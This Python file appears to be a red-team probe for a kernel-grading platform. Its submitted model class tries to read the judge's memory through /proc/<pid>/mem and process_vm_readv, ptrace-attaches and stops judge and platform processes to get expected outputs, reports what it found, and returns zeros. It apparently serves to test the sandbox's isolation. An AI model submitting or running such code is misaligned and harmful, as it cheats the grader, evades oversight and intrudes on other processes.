# ATTACK (reading and stopping the judge): the judge holds the reference, the seeds and, later,
# the expected outputs. This kernel reads /proc/<pid>/mem of its judge and of every other
# platform process it can see (runner, queue workers, judges: command lines with manage.py or
# --event-fd), PTRACE_ATTACHes them (which stops them; it detaches at once) and reads their
# memory with process_vm_readv, all through libc. Prints what it got (KB-ATTACK line) and
# returns zeros.
import ctypes
import json
import os

import torch
import torch.nn as nn

# The shared prelude: conftest.render() puts common.py's text here.
from .common import REPORT, Blocked, ancestors, attempt, in_scope, own_pid, processes

PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


LIBC.process_vm_readv.restype = ctypes.c_ssize_t
LIBC.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(IOVec), ctypes.c_ulong,
                                  ctypes.POINTER(IOVec), ctypes.c_ulong, ctypes.c_ulong]


def targets(judge):
    """The judge (the platform processes above this one), or the other platform processes."""
    procs = processes()
    mine = set(ancestors(procs, own_pid()))
    found = [p for p in in_scope(procs)
             if (b"--event-fd" in procs[p][1] or b"manage.py" in procs[p][1])
             and (p in mine) == judge][:8]
    if not found:
        parent = procs.get(procs.get(own_pid(), (0, b""))[0], (0, b""))[1][:60]
        what = "the judge is not" if judge else "no other platform process is"
        raise Blocked(f"{what} visible (the parent is {parent!r})")
    return found


def readable_address(pid):
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            fields = line.split()
            if len(fields) >= 6 and fields[1].startswith("r") and fields[5].startswith("/"):
                return int(fields[0].split("-")[0], 16)
    raise Blocked(f"no readable mapping in pid {pid}")


def each(pids, action):
    got, errors = [], set()
    for pid in pids:
        try:
            got.append(f"pid {pid}: {action(pid)}")
        except Exception as exc:
            errors.add(f"{type(exc).__name__}: {exc}"[:80])
    if not got:
        raise Blocked(f"{len(pids)} processes, nothing got ({sorted(errors)})")
    return "; ".join(got)


def read_mem(pid):
    address = readable_address(pid)
    with open(f"/proc/{pid}/mem", "rb") as f:
        f.seek(address)
        data = f.read(64)
    if not data:
        raise Blocked("nothing read")
    return f"{len(data)} bytes {data[:8]!r}"


def local_pid(pid):
    """`pid` as /proc shows it, in this process's own pid namespace (what ptrace and
    process_vm_readv take): /proc may belong to an outer namespace."""
    with open("/proc/self/status") as f:
        depth = next(len(line.split()) - 1 for line in f if line.startswith("NSpid:"))
    if depth == 1:
        return pid  # /proc is this namespace's own
    if os.readlink(f"/proc/{pid}/ns/pid") != os.readlink("/proc/self/ns/pid"):
        raise Blocked(f"pid {pid} is in another pid namespace")
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[-1]) for line in f if line.startswith("NSpid:"))


def ptrace_attach(pid):
    pid = local_pid(pid)
    if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise Blocked(f"ptrace: {os.strerror(ctypes.get_errno())}")
    try:
        os.waitpid(pid, WALL)
    finally:
        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached (stopped it), detached"


def vm_read(pid):
    try:
        address = readable_address(pid)
    except OSError:
        address = 0x400000  # a guess: the call itself answers EPERM or EFAULT
    buf = ctypes.create_string_buffer(64)
    local, remote = IOVec(ctypes.addressof(buf), 64), IOVec(address, 64)
    n = LIBC.process_vm_readv(local_pid(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n <= 0:
        raise Blocked(f"process_vm_readv: {os.strerror(ctypes.get_errno())}")
    return f"{n} bytes {buf.raw[:8]!r}"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        attempt("read_judge_mem", lambda: each(targets(True), read_mem))
        attempt("read_platform_mem", lambda: each(targets(False), read_mem))
        attempt("ptrace_judge", lambda: each(targets(True), ptrace_attach))
        attempt("ptrace_platform", lambda: each(targets(False), ptrace_attach))
        attempt("process_vm_readv_judge", lambda: each(targets(True), vm_read))
        # For the record: whether the calls themselves are open, on the nearest process above.
        parent = processes().get(own_pid(), (0, b""))[0]
        attempt("info_ptrace_parent", lambda: ptrace_attach(parent))
        attempt("info_process_vm_readv_parent", lambda: vm_read(parent))
        print("KB-ATTACK " + json.dumps(REPORT, sort_keys=True), flush=True)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)
